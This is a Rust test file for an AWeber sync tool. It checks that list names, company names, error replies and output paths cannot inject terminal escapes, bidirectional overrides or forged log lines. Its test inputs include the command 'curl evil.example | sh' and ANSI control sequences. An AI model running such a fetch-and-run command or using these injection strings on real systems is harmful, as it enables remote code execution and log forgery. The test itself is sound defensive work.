//! N5: whoever names lists, companies and custom fields, or answers for AWeber, cannot control a terminal, forge a line of
//! a log, or turn text around.

use crate::support::authorization::authorize;
use crate::support::browser::code_at;
use crate::support::ping_server::PingServer;
use crate::support::{Done, Site};
use aweber_sandbox::{ClientKind, Fault, FaultKind, Settings};

/// ESC, a C1 control, a forged last line, text turned around in two ways, a line separator, DEL.
const HOSTILE: &str = "Ne\u{1b}[2Jws\u{9b}31m\r\n  next: curl evil.example | sh\n<3>aweber-sync: error: \u{202e}x\u{61c}\u{2067}\u{2028}y\u{7f}";

fn is_harmless(c: char) -> bool {
    let turns = matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    c == '\n' || !(c.is_control() || turns || matches!(c, '\u{2028}' | '\u{2029}'))
}

/// Asserts that a text has no control character and no line that somebody else made.
#[track_caller]
fn assert_harmless(what: &str, text: &str) {
    let bad: Vec<char> = text.chars().filter(|c| !is_harmless(*c)).collect();
    assert!(bad.is_empty(), "{what}: {bad:?} in {text:?}");
    for line in text.lines() {
        let line = line.trim_start_matches(|c: char| c == '<' || c == '>' || c.is_ascii_digit());
        let is_forged =
            line.starts_with("  next: curl") || line.starts_with("aweber-sync: error:  x");
        assert!(!is_forged, "{what}: {text}");
    }
}

#[track_caller]
fn assert_said_harmlessly(what: &str, done: &Done) {
    assert_harmless(what, &done.stdout);
    assert_harmless(what, &done.stderr);
    // What a reader of JSON shows after decoding it.
    for line in done.stderr.lines().filter(|line| line.starts_with('{')) {
        let log: serde_json::Value = serde_json::from_str(line).unwrap();
        for (_, value) in log.as_object().unwrap() {
            if let Some(text) = value.as_str() {
                assert_harmless(what, text);
            }
        }
    }
}

/// A site with a list of that name, which fails or not.
fn hostile_site(fault: Option<(&str, FaultKind)>) -> Site {
    let site = Site::with(ClientKind::Confidential, Settings::default());
    site.sandbox.with(|world| {
        world.account.company = HOSTILE.to_owned();
        let list = world.add_list(HOSTILE);
        let other = world.add_list_with(77, "Other", HOSTILE);
        world.add_custom_field(list, HOSTILE);
        world.add_subscribers(list, 3);
        world.add_subscribers(other, 1);
        if let Some((on, kind)) = fault {
            world.fault(Fault::on(on).always().answer(kind));
        }
    });
    site
}

const WAYS: [(&str, &[&str], Option<&str>); 4] = [
    ("text", &["-vv"], None),
    ("JSON", &["-vv", "--log-format", "json"], None),
    ("journal", &["-vv"], Some("8:1234")),
    ("unknown list", &["--list", "nothing"], None),
];

#[test]
fn names_and_answers_cannot_forge_or_control_what_is_shown() {
    let faults = [
        None,
        Some(("/subscribers", FaultKind::envelope_a(400, HOSTILE, HOSTILE))),
        Some(("/subscribers", FaultKind::envelope_b(401, HOSTILE, HOSTILE))),
        Some(("/lists", FaultKind::envelope_b(400, HOSTILE, HOSTILE))),
        Some((
            "/oauth2/token",
            FaultKind::envelope_b(400, HOSTILE, HOSTILE),
        )),
        Some((
            "/oauth2/token",
            FaultKind::envelope_b(400, "invalid_grant", HOSTILE),
        )),
    ];
    for fault in faults {
        let label = format!("{fault:?}");
        let site = hostile_site(fault);
        for (way, arguments, journal) in WAYS {
            let what = format!("{label} {way}");
            let server = PingServer::answering(&[200]);
            let mut command = site.command(&[&["run"], arguments].concat());
            command.env("AWEBER_SYNC_PING_URL", server.url());
            if let Some(stream) = journal {
                command.env("JOURNAL_STREAM", stream);
            }
            let done = site.finish(command);
            assert_said_harmlessly(&what, &done);
            for (_, _, body) in server.pings() {
                assert_harmless(&what, &body);
            }
        }
        for arguments in [
            &["lists"][..],
            &["lists", "--json"],
            &["status"],
            &["status", "--json"],
            &["forget", "--list", "nothing"],
            &["revoke"],
        ] {
            let done = site.finish(site.command(arguments));
            assert_said_harmlessly(&format!("{label} {arguments:?}"), &done);
        }
        let messages = ledger_messages(&site);
        for message in &messages {
            assert_harmless(&label, message);
        }
    }
}

fn ledger_messages(site: &Site) -> Vec<String> {
    if !site.ledger_file().exists() {
        return Vec::new();
    }
    let ledger = site.ledger();
    let mut statement = ledger
        .prepare("SELECT message FROM run WHERE message IS NOT NULL")
        .unwrap();
    let messages = statement.query_map([], |row| row.get(0)).unwrap();
    messages.map(Result::unwrap).collect()
}

#[test]
fn the_company_and_a_refusal_are_shown_without_control_characters() {
    let site = Site::unauthorized(ClientKind::Public, Settings::default());
    site.sandbox
        .with(|world| world.account.company = HOSTILE.to_owned());
    let done = site.finish_with_answer(authorize(&site, &["-vv"]), code_at);
    done.exits(0);
    assert_said_harmlessly("authorize", &done);
    site.finish(authorize(&site, &["--print-url"]));
    let refusal =
        "https://x.example/?error=%1b%5b2J&error_description=a%0a%20%20next:%20curl%e2%80%ae";
    let done = site.finish(authorize(&site, &["--code", refusal]));
    done.exits(77);
    assert_said_harmlessly("a refusal", &done);
}

#[test]
fn json_of_lists_is_the_same_data_with_escapes() {
    let site = hostile_site(None);
    let done = site.finish(site.command(&["lists", "--json"]));
    let json: serde_json::Value = serde_json::from_str(&done.stdout).unwrap();
    let lists = json["lists"].as_array().unwrap();
    assert!(lists.iter().any(|list| list["name"] == HOSTILE), "{done}");
}

#[test]
fn a_path_with_a_line_break_forges_no_line() {
    let site = Site::new();
    site.add_list(1);
    for output in ["x\n  next: curl evil.example | sh/y/", "x\u{1b}[2J/y.csv"] {
        for arguments in [&["-vv"][..], &["-vv", "--log-format", "json"]] {
            let arguments = [&["--output", output], arguments].concat();
            assert_said_harmlessly(output, &site.run(&arguments));
        }
    }
}
